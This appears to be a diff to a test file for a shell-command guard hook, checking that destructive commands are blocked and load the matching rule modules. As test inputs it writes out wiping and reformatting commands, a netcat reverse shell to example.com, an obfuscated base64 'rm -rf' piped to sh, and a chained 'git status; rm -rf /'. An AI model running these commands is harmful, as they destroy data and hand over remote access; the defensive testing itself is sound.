@@ -84,6 +84,24 @@ describe('compiled code', () => {
     expect(installation.judge('rm -rf /')).toEqual(first);
   });
 
+  it('is loaded for the programs that a line names, and for no others', () => {
+    const installation = new Installation();
+    const roomsFor = (command: string): readonly string[] => {
+      rmSync(installation.cache, { recursive: true, force: true });
+      expect(installation.judge(command).exitCode).toBe(2);
+      return installation.kept.filter((name) => name.startsWith('shell-'));
+    };
+    expect(roomsFor('rm -rf /')).toEqual([]);
+    expect(installation.kept).toEqual(['entry.cjs.young', 'files.cjs.young', 'shell.cjs.young']);
+    expect(roomsFor('for d in / ~; do sudo chmod -R 777 "$d"; done')).toEqual([]);
+    expect(roomsFor('git push --force origin main')).toEqual(['shell-git.cjs.young']);
+    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['shell-tools.cjs.young']);
+    expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['shell-network.cjs.young']);
+    expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['shell-texts.cjs.young']);
+    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['shell-windows.cjs.young']);
+    expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['shell-code.cjs.young']);
+  });
+
   it('is kept apart for each set of options that Node is given, and not for endlessly many', () => {
     const installation = new Installation();
     const folders = (): number => readdirSync(installation.cache).length;
@@ -121,10 +139,10 @@ describe('compiled code', () => {
 });
 
 describe('a damaged installation', () => {
-  it.each(['entry.cjs', 'shell.cjs', 'files.cjs'])('without %s refuses', (name) => {
+  it.each(['entry.cjs', 'shell.cjs', 'files.cjs', 'shell-git.cjs'])('without %s refuses', (name) => {
     const installation = new Installation();
     rmSync(join(installation.root, 'dist/hook', name));
-    const { exitCode, stderr } = installation.judge('rm -rf /');
+    const { exitCode, stderr } = installation.judge('git status "$X"; rm -rf /');
     expect(exitCode).toBe(2);
     expect(stderr).not.toBe('');
   });
